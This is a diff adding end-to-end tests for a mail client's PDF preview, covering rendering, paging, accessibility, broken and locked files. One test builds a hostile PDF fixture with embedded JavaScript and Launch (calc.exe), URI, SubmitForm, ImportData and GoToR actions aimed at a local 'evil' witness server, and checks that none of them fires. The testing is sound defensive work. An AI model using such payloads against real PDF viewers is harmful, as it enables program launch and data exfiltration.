@@ -1,0 +1,155 @@
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import type { Locator, Page } from "playwright/test";
+import { expect, expectAccessible, signIn, test } from "#e2e/fixtures.ts";
+import { tinyPdf } from "#e2e/hostile/tiny-pdf.ts";
+import { WireClient } from "#e2e/wire-client.ts";
+
+/** Opens the preview of a PDF that robin sent. */
+async function openPreview(page: Page, url: string, base64: string): Promise<Locator> {
+  const robin = new WireClient(url);
+  await robin.signIn("robin");
+  const { messageId } = await robin.call("sendMessage", {
+    loggedInUser: "robin",
+    sessionKey: robin.sessionId,
+    email: {
+      to: ["casey@direct.example"],
+      from: "robin@direct.example",
+      subject: "Scan",
+      textBody: "attached",
+      attachments: [{ fileName: "scan.pdf", contentType: "application/pdf", base64 }],
+    },
+  });
+  await signIn(page, url);
+  await page.goto(`/messages/${messageId}`);
+  const read = page.getByRole("button", { name: "Read here: scan.pdf" });
+  await expect(read).toBeVisible();
+  const loaded = () =>
+    page.evaluate(() => performance.getEntriesByType("resource").filter(({ name }) => name.includes("pdf")));
+  expect(await loaded(), "the viewer is loaded by who needs it alone").toEqual([]);
+  await read.click();
+  return page.getByRole("dialog", { name: "scan.pdf" });
+}
+
+/** How many points of a page's picture are black. */
+function inkOf(picture: Locator): Promise<number> {
+  return picture.evaluate((canvas: HTMLCanvasElement) => {
+    const context = canvas.getContext("2d");
+    if (!context || canvas.width === 0) return 0;
+    const { data } = context.getImageData(0, 0, canvas.width, canvas.height);
+    let black = 0;
+    for (let at = 0; at < data.length; at += 4)
+      if (data[at + 3] === 255 && Number(data[at]) + Number(data[at + 1]) + Number(data[at + 2]) < 60)
+        black += 1;
+    return black;
+  });
+}
+
+test("a PDF is drawn page by page, each page named, its text there to be heard", async ({ page, server }) => {
+  const dialog = await openPreview(page, server.url, tinyPdf({ pages: ["First words", "Second words"] }));
+  for (const name of ["Page 1 of 2", "Page 2 of 2"]) {
+    const picture = dialog.getByRole("img", { name });
+    await picture.scrollIntoViewIfNeeded();
+    await expect.poll(() => inkOf(picture), name).toBeGreaterThan(1000);
+  }
+  await expect(dialog.getByText("First words")).toBeAttached();
+  await expect(dialog.getByText("Second words")).toBeAttached();
+  await expect(dialog.locator("iframe, embed, object")).toHaveCount(0);
+  await expectAccessible(page);
+  const workers = () => page.workers().filter((worker) => worker.url().includes("pdf")).length;
+  expect(workers()).toBe(1);
+  await dialog.getByRole("button", { name: "Close" }).last().click();
+  await expect.poll(workers).toBe(0);
+});
+
+test("a long PDF holds the pictures of the pages in sight alone, and the keys move through it", async ({
+  page,
+  server,
+}) => {
+  const pages = Array.from({ length: 60 }, (_, at) => `Words of page ${at + 1}`);
+  const dialog = await openPreview(page, server.url, tinyPdf({ pages }));
+  const first = dialog.getByRole("img", { name: "Page 1 of 60" });
+  await expect.poll(() => inkOf(first)).toBeGreaterThan(1000);
+  await dialog.getByRole("region", { name: "scan.pdf" }).focus();
+  await page.keyboard.press("End");
+  await expect(dialog.getByText("Page 60 of 60")).toBeVisible();
+  const last = dialog.getByRole("img", { name: "Page 60 of 60" });
+  await expect.poll(() => inkOf(last)).toBeGreaterThan(1000);
+  await expect.poll(() => inkOf(first)).toBe(0);
+  const width = () => last.evaluate((canvas: HTMLCanvasElement) => canvas.width);
+  const before = await width();
+  await dialog.getByRole("button", { name: "Larger" }).click();
+  await expect.poll(width).toBeGreaterThan(before);
+  await expect(dialog.getByText("Page 60 of 60")).toBeVisible();
+});
+
+test("a hostile PDF runs nothing, opens nothing and fetches nothing", async ({ page, context, server }) => {
+  const asked: string[] = [];
+  const witness = createServer((request, response) => {
+    asked.push(`${request.method} ${request.url}`);
+    response.end("x");
+  });
+  await new Promise<void>((resolve) => witness.listen(0, "127.0.0.1", resolve));
+  // A listening TCP server has an address of this form.
+  const evil = `http://127.0.0.1:${(witness.address() as AddressInfo).port}`;
+  const foreign: string[] = [];
+  const opened: string[] = [];
+  const dialogs: string[] = [];
+  context.on("request", (request) => {
+    if (!request.url().startsWith(server.url) && !/^(?:blob|data|about):/.test(request.url()))
+      foreign.push(request.url());
+  });
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  const script = `<< /S /JavaScript /JS (app.alert\\("ran"\\); app.launchURL\\("${evil}/js"\\); this.submitForm\\("${evil}/form"\\)) >>`;
+  const action = (more: string) =>
+    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /Border [0 0 0] /A << ${more} >> >>`;
+  const hostile = tinyPdf({
+    pages: ["press", "Second words"],
+    catalog: `/OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> /URI << /Base (${evil}/) >>`,
+    firstPage: `/AA << /O ${script} /C << /S /Launch /F (calc.exe) >> >> /Annots [${[
+      action(`/S /URI /URI (${evil}/uri)`),
+      action(`/S /Launch /F << /FS /URL /F (${evil}/launch) >>`),
+      action(`/S /GoToR /F << /FS /URL /F (${evil}/remote.pdf) >> /D [0 /Fit]`),
+      action(`/S /SubmitForm /F << /FS /URL /F (${evil}/submit) >>`),
+      action(`/S /ImportData /F << /FS /URL /F (${evil}/import) >>`),
+      `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 300 200] /AA << /E ${script} /Fo ${script} /D ${script} >> >>`,
+    ].join(" ")}]`,
+    content: `/F << /FS /URL /F (${evil}/external) >> /FFilter /FlateDecode`,
+  });
+  const dialog = await openPreview(page, server.url, hostile);
+  context.on("page", (other) => opened.push(other.url()));
+  const second = dialog.getByRole("img", { name: "Page 2 of 2" });
+  await second.scrollIntoViewIfNeeded();
+  await expect.poll(() => inkOf(second)).toBeGreaterThan(1000);
+  const first = dialog.getByRole("img", { name: "Page 1 of 2" });
+  await first.scrollIntoViewIfNeeded();
+  await expect(first).toHaveAttribute("aria-busy", "false");
+  await first.click();
+  await first.dblclick();
+  await first.click({ button: "middle" });
+  await expect(dialog.getByRole("link")).toHaveCount(0);
+  await dialog.getByRole("button", { name: "Close" }).last().click();
+  await expect(dialog).toBeHidden();
+  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve, { timeout: 1000 })));
+  expect([asked, foreign, opened, dialogs]).toEqual([[], [], [], []]);
+  await expect(page).toHaveURL(/\/messages\/\d+$/);
+  witness.close();
+});
+
+const locked = `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${"0a".repeat(32)}> /U <${"0b".repeat(32)}> >>`;
+
+for (const [what, base64, words] of [
+  ["broken", Buffer.from("%PDF-1.7\nnothing").toString("base64"), "This PDF is broken and cannot be shown"],
+  ["locked", tinyPdf({ pages: ["secret"], trailer: locked }), "This PDF is locked with a password"],
+] as const) {
+  test(`a ${what} PDF says so and can be saved`, async ({ page, server }) => {
+    const dialog = await openPreview(page, server.url, base64);
+    await expect(dialog.getByText(words)).toBeVisible();
+    const download = page.waitForEvent("download");
+    await dialog.getByRole("button", { name: "Save" }).click();
+    expect((await download).suggestedFilename()).toBe("scan.pdf");
+  });
+}
